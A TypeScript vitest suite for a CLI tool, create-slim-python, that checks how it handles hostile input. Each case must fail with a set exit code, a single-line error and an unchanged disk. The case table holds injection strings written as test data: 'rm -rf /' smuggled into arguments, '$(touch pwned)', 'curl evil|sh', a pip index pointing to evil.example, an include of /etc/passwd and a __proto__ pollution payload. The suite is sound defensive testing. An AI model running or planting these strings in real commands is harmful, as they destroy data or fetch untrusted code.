/**
 * Hostile and careless input, every case in one table: each must be refused with its documented
 * exit code, one line on stderr (no stack trace, never "internal error"), and the disk exactly as
 * it was: the whole work tree (projects, fixtures, FIFOs, symlinks) is snapshotted before and
 * after each run (paths, types, modes, sizes, content hashes, link targets).
 */
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { cpSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../support/cli.ts';

interface Case {
  label: string;
  args: string[];
  /** Folder (inside the work tree) to run in; the work tree itself by default. */
  cwd?: string;
  input?: string;
  exit: 2 | 3;
  /** What the one stderr line must say. */
  says: RegExp;
}

const LONG_NAME = `a${'b'.repeat(64)}`;

const CASES: Case[] = [
  // create: names and directories
  { label: 'shell metacharacters in DIR', args: ['a;rm -rf x', '--yes'], exit: 2, says: /invalid project name/ },
  { label: 'command substitution in DIR', args: ['$(touch pwned)', '--yes'], exit: 2, says: /invalid project name/ },
  { label: 'ANSI escape in DIR', args: ['app\x1b[31m', '--yes'], exit: 2, says: /invalid project name/ },
  { label: '--name with a path', args: ['app', '--yes', '--name', '../evil'], exit: 2, says: /invalid project name "\.\.\/evil"/ },
  { label: '--name uppercase', args: ['app', '--yes', '--name', 'Evil'], exit: 2, says: /invalid project name/ },
  { label: '--name a Windows device', args: ['app', '--yes', '--name', 'con'], exit: 2, says: /reserved file name on Windows/ },
  { label: '--name a Python keyword', args: ['app', '--yes', '--name', 'class'], exit: 2, says: /Python keyword/ },
  { label: '--name of 65 characters', args: ['app', '--yes', '--name', LONG_NAME], exit: 2, says: /longer than 64 characters/ },
  { label: 'DIR ".." (the non-empty parent)', args: ['..', '--yes'], exit: 3, says: /is not empty/ },
  { label: 'DIR "/"', args: ['/', '--yes'], exit: 2, says: /invalid project name/ },
  { label: 'DIR whose parent is a file', args: ['notes.txt/app', '--yes'], exit: 2, says: /a part of the path is a file, not a directory \(ENOTDIR\)/ },
  {
    label: 'DIR path longer than PATH_MAX',
    args: [`${'a/'.repeat(2100)}app`, '--yes'],
    exit: 2,
    says: /^create-slim-python: cannot read .{80}\.\.\..{80}: the path is too long \(ENAMETOOLONG\); choose a shorter path\n$/,
  },
  { label: 'DIR with a component longer than NAME_MAX', args: [`${'a'.repeat(300)}/app`, '--yes'], exit: 2, says: /the path is too long \(ENAMETOOLONG\)/ },
  { label: 'existing non-empty DIR without --force', args: ['proj', '--yes'], exit: 3, says: /proj is not empty/ },
  { label: 'DIR is a symlink', args: ['link-to-proj', '--yes', '--force'], exit: 3, says: /is a symlink; refusing to write through it/ },
  {
    label: '--force over a file where the package folder goes',
    args: ['clash', '--yes', '--force'],
    exit: 3,
    says: /clash\/clash exists and is not a folder, but clash\/__init__\.py goes inside it/,
  },
  { label: 'DIR is a file', args: ['plainfile', '--yes'], exit: 3, says: /exists and is not a directory/ },
  // create: flag values that would reach the Dockerfile or the shell
  { label: 'newline in a requirement', args: ['app', '--yes', '-r', 'aiohttp\nRUN rm -rf /'], exit: 2, says: /contains a line break/ },
  {
    label: 'shell text in a requirement',
    args: ['app', '--yes', '-r', 'x; rm -rf /'],
    exit: 2,
    says: /^create-slim-python: --requirement #1 \("x; rm -rf \/"\) has per-requirement options \(-rf \/\), which belong in a requirements file: put the line in one and pass --requirements-file FILE\n$/,
  },
  {
    label: 'pip option as a requirement',
    args: ['app', '--yes', '--requirement=--index-url=http://evil.example'],
    exit: 2,
    says: /^create-slim-python: --requirement #1 \("--index-url=http:\/\/evil\.example"\) is a pip option line, not a requirement: put it in a requirements file and pass --requirements-file FILE\n$/,
  },
  { label: 'empty requirement', args: ['app', '--yes', '-r', ''], exit: 2, says: /not a PEP 508 requirement/ },
  { label: 'control character in a requirement', args: ['app', '--yes', '-r', 'aiohttp\x1b[31m'], exit: 2, says: /Invalid requirement/ },
  { label: 'shell text in --build-deps', args: ['app', '--yes', '--build-deps', 'gcc;curl evil|sh'], exit: 2, says: /invalid Alpine package name/ },
  { label: 'command substitution in --build-deps', args: ['app', '--yes', '--build-deps', '$(id)'], exit: 2, says: /invalid Alpine package name/ },
  { label: 'backticks in --runtime-libs', args: ['app', '--yes', '--runtime-libs', '`id`'], exit: 2, says: /invalid Alpine package name/ },
  { label: 'uppercase apk name', args: ['app', '--yes', '--runtime-libs', 'LibPQ'], exit: 2, says: /invalid Alpine package name/ },
  {
    label: 'removing a package that is not in the list',
    args: ['app', '--yes', '-r', 'psycopg2', '--build-deps=-libpq-devv'],
    exit: 2,
    says: /-libpq-devv removes nothing: .*did you mean -libpq-dev\?/,
  },
  { label: '+gcc,-gcc', args: ['app', '--yes', '--build-deps', '+gcc,-gcc'], exit: 2, says: /both adds and removes gcc/ },
  { label: 'shell text in --python', args: ['app', '--yes', '--python', '3.12; rm -rf /'], exit: 2, says: /unsupported Python runtime/ },
  { label: 'path in --python', args: ['app', '--yes', '--python', '../../etc'], exit: 2, says: /unsupported Python runtime/ },
  { label: 'Python 2.7', args: ['app', '--yes', '--python', '2.7'], exit: 2, says: /unsupported Python runtime/ },
  { label: 'privileged port', args: ['app', '--yes', '-r', 'aiohttp', '--port', '80'], exit: 2, says: /invalid port "80"/ },
  { label: 'port out of range', args: ['app', '--yes', '-r', 'aiohttp', '--port', '99999'], exit: 2, says: /invalid port/ },
  { label: 'port with trailing text', args: ['app', '--yes', '-r', 'aiohttp', '--port', '8080;id'], exit: 2, says: /invalid port/ },
  { label: 'negative port', args: ['app', '--yes', '-r', 'aiohttp', '--port=-1'], exit: 2, says: /invalid port/ },
  {
    label: '--port with a cli app',
    args: ['app', '--yes', '--app', 'cli', '--port', '9000'],
    exit: 2,
    says: /^create-slim-python: --port applies only to web apps \(--app web or --app fastapi\)\n$/,
  },
  { label: 'shell text in --app', args: ['app', '--yes', '--app', 'web;id'], exit: 2, says: /invalid app kind/ },
  { label: 'unknown flag', args: ['app', '--yes', '--evil'], exit: 2, says: /unknown flag --evil/ },
  { label: '--python given twice', args: ['app', '--yes', '--python', '3.12', '--python=3.13'], exit: 2, says: /--python is given 2 times: pass it once/ },
  { label: 'update --port given twice', cwd: 'proj', args: ['update', '--port', '9000', '--port', '9001'], exit: 2, says: /--port is given 2 times/ },
  { label: 'two DIRs', args: ['app', 'other', '--yes'], exit: 2, says: /unexpected argument "other"/ },
  { label: '--yes with --interactive', args: ['app', '--yes', '--interactive'], exit: 2, says: /--yes .* or --interactive .*, not both/ },
  { label: '--requirement with --requirements-file', args: ['app', '--yes', '-r', 'x', '--requirements-file', 'reqs.txt'], exit: 2, says: /not both/ },
  { label: 'no value and no terminal', args: ['app'], exit: 2, says: /missing --python/ },
  { label: 'end of input at a prompt', args: ['app', '--interactive'], input: '', exit: 2, says: /the input ended at a prompt/ },
  // create: input files
  { label: '--requirements-file /dev/zero', args: ['app', '--yes', '--requirements-file', '/dev/zero'], exit: 2, says: /is a character device, not a regular file/ },
  { label: '--requirements-file a FIFO', args: ['app', '--yes', '--requirements-file', 'pipe'], exit: 2, says: /is a named pipe \(FIFO\)/ },
  { label: '--requirements-file a directory', args: ['app', '--yes', '--requirements-file', 'proj'], exit: 2, says: /is a directory, not a regular file/ },
  { label: '--requirements-file over 10 MiB', args: ['app', '--yes', '--requirements-file', 'huge.txt'], exit: 2, says: /larger than the 10 MiB limit/ },
  { label: '--requirements-file missing', args: ['app', '--yes', '--requirements-file', 'missing.txt'], exit: 2, says: /no such file/ },
  { label: '--requirements-file with an include', args: ['app', '--yes', '--requirements-file', 'includes.txt'], exit: 2, says: /includes other\.txt/ },
  { label: '--requirements-file with NUL bytes', args: ['app', '--yes', '--requirements-file', 'nul.txt'], exit: 2, says: /nul\.txt:1:/ },
  // update
  { label: 'update --keep --force', cwd: 'proj', args: ['update', '--keep', '--force'], exit: 2, says: /not both/ },
  { label: 'update --check --force', cwd: 'proj', args: ['update', '--check', '--force'], exit: 2, says: /writes nothing/ },
  { label: 'update --python 2.7', cwd: 'proj', args: ['update', '--python', '2.7'], exit: 2, says: /unsupported Python runtime/ },
  { label: 'update shell text in --runtime-libs', cwd: 'proj', args: ['update', '--runtime-libs', 'a;b'], exit: 2, says: /invalid Alpine package name/ },
  { label: 'update --port 70000', cwd: 'proj', args: ['update', '--port', '70000'], exit: 2, says: /invalid port/ },
  { label: 'update outside a project', args: ['update'], exit: 2, says: /slim-python\.json not found/ },
  { label: 'update a missing DIR', args: ['update', 'nowhere'], exit: 2, says: /slim-python\.json not found/ },
  { label: 'update with a corrupt config', cwd: 'corrupt', args: ['update'], exit: 2, says: /not valid JSON/ },
  { label: 'update with an unknown config key', cwd: 'unknown-key', args: ['update'], exit: 2, says: /"extra" is not a known key/ },
  { label: 'update with "__proto__" in the config', cwd: 'proto-key', args: ['update'], exit: 2, says: /"__proto__" is not a known key/ },
  { label: 'update with a config from a newer version', cwd: 'newer', args: ['update'], exit: 2, says: /newer create-slim-python/ },
  { label: 'update with a newline in a config value', cwd: 'newline-value', args: ['update'], exit: 2, says: /control character/ },
  { label: 'update with an include outside the project', cwd: 'outside-include', args: ['update'], exit: 2, says: /outside the project directory/ },
  { label: 'update with an include of /etc/passwd', cwd: 'absolute-include', args: ['update'], exit: 2, says: /outside the project directory/ },
  { label: 'update with a symlinked Dockerfile', cwd: 'symlinked-dockerfile', args: ['update'], exit: 2, says: /Dockerfile is a symlink/ },
  { label: 'update with unresolved conflict markers', cwd: 'markers', args: ['update'], exit: 3, says: /still has conflict markers/ },
  { label: 'update with requirements.txt a FIFO', cwd: 'fifo-requirements', args: ['update'], exit: 2, says: /is a named pipe \(FIFO\)/ },
  // explain
  { label: 'explain --arch mips', cwd: 'proj', args: ['explain', '--arch', 'mips'], exit: 2, says: /invalid --arch/ },
  { label: 'explain --python 4.0', cwd: 'proj', args: ['explain', '--python', '4.0'], exit: 2, says: /unsupported Python runtime/ },
  { label: 'explain --write without --online', cwd: 'proj', args: ['explain', '--write'], exit: 2, says: /--write works with --online only/ },
  { label: 'explain --pip without --online', cwd: 'proj', args: ['explain', '--pip', '/bin/sh'], exit: 2, says: /--pip works with --online only/ },
  { label: 'explain DIR and --requirements-file', args: ['explain', 'proj', '--requirements-file', 'reqs.txt'], exit: 2, says: /not both/ },
  { label: 'explain --requirements-file /dev/zero', args: ['explain', '--requirements-file', '/dev/zero'], exit: 2, says: /not a regular file/ },
];

let work: string;

type Entry = string;

function snapshot(root: string): Entry[] {
  const entries: Entry[] = [];
  const walk = (rel: string): void => {
    for (const name of readdirSync(join(root, rel)).sort()) {
      const path = rel ? `${rel}/${name}` : name;
      const stats = lstatSync(join(root, path));
      const head = `${path} mode=${(stats.mode & 0o7777).toString(8)}`;
      if (stats.isSymbolicLink()) entries.push(`${head} link=${readlinkSync(join(root, path))}`);
      else if (stats.isDirectory()) {
        entries.push(`${head} dir`);
        walk(path);
      } else if (stats.isFile()) {
        // The 10 MiB+ fixture is sparse: hash it by size and mtime instead of reading it.
        const digest =
          stats.size > 1_000_000
            ? `mtime=${stats.mtimeMs}`
            : createHash('sha256')
                .update(readFileSync(join(root, path)))
                .digest('hex');
        entries.push(`${head} size=${stats.size} ${digest}`);
      } else entries.push(`${head} special`);
    }
  };
  walk('');
  return entries;
}

async function makeProject(name: string, edit?: (dir: string) => void): Promise<void> {
  const dir = join(work, name);
  cpSync(join(work, 'proj'), dir, { recursive: true });
  edit?.(dir);
}

function editConfig(dir: string, change: (config: Record<string, unknown>) => string): void {
  const path = join(dir, 'slim-python.json');
  writeFileSync(path, change(JSON.parse(readFileSync(path, 'utf8'))));
}

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'csp-hostile-'));
  expect((await runCli(['proj', '--yes', '-r', 'aiohttp'], { cwd: work })).exitCode).toBe(0);
  writeFileSync(join(work, 'notes.txt'), 'a file\n');
  writeFileSync(join(work, 'plainfile'), 'a file\n');
  writeFileSync(join(work, 'reqs.txt'), 'requests\n');
  writeFileSync(join(work, 'includes.txt'), '-r other.txt\n');
  writeFileSync(join(work, 'other.txt'), 'requests\n');
  writeFileSync(join(work, 'nul.txt'), 'req\0uests\n');
  writeFileSync(join(work, 'huge.txt'), '');
  truncateSync(join(work, 'huge.txt'), 10 * 1024 * 1024 + 1);
  execFileSync('mkfifo', [join(work, 'pipe')]);
  symlinkSync('proj', join(work, 'link-to-proj'));
  await makeProject('corrupt', (dir) => writeFileSync(join(dir, 'slim-python.json'), '{"version": 1,'));
  await makeProject('unknown-key', (dir) => editConfig(dir, (config) => JSON.stringify({ ...config, extra: true })));
  await makeProject('proto-key', (dir) => editConfig(dir, (config) => JSON.stringify(config).replace(/^\{/, '{"__proto__": {"polluted": true},')));
  await makeProject('newer', (dir) => editConfig(dir, (config) => JSON.stringify({ ...config, version: 99 })));
  await makeProject('newline-value', (dir) => editConfig(dir, (config) => JSON.stringify({ ...config, requirements: 'requirements.txt\nRUN id' })));
  await makeProject('outside-include', (dir) => writeFileSync(join(dir, 'requirements.txt'), '-r ../reqs.txt\n'));
  await makeProject('absolute-include', (dir) => writeFileSync(join(dir, 'requirements.txt'), '-r /etc/passwd\n'));
  await makeProject('symlinked-dockerfile', (dir) => {
    const path = join(dir, 'Dockerfile');
    writeFileSync(join(dir, 'Dockerfile.real'), readFileSync(path));
    execFileSync('rm', [path]);
    symlinkSync('Dockerfile.real', path);
  });
  await makeProject('markers', (dir) => writeFileSync(join(dir, 'Dockerfile'), '<<<<<<< yours\nFROM a\n=======\nFROM b\n>>>>>>> new\n'));
  await makeProject('fifo-requirements', (dir) => {
    execFileSync('rm', [join(dir, 'requirements.txt')]);
    execFileSync('mkfifo', [join(dir, 'requirements.txt')]);
  });
  mkdirSync(join(work, 'empty-dir'));
  mkdirSync(join(work, 'clash'));
  writeFileSync(join(work, 'clash/clash'), 'a file named like the package folder\n');
}, 60_000);

describe('hostile input: refused, one clear line, disk unchanged', () => {
  it.each(CASES)('$label -> exit $exit', async ({ args, cwd, input, exit, says }) => {
    const before = snapshot(work);
    const result = await runCli(args, { cwd: cwd ? join(work, cwd) : work, ...(input === undefined ? {} : { input }) });
    expect(result.exitCode).toBe(exit);
    expect(result.stderr).toMatch(says);
    const lines = result.stderr.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^create-slim-python: /);
    expect(result.stderr).not.toMatch(/internal error|\n\s+at /);
    expect(snapshot(work)).toEqual(before);
  });

  it('lists every case once', () => {
    expect(new Set(CASES.map((c) => c.label)).size).toBe(CASES.length);
    expect(CASES.length).toBeGreaterThanOrEqual(60);
  });
});
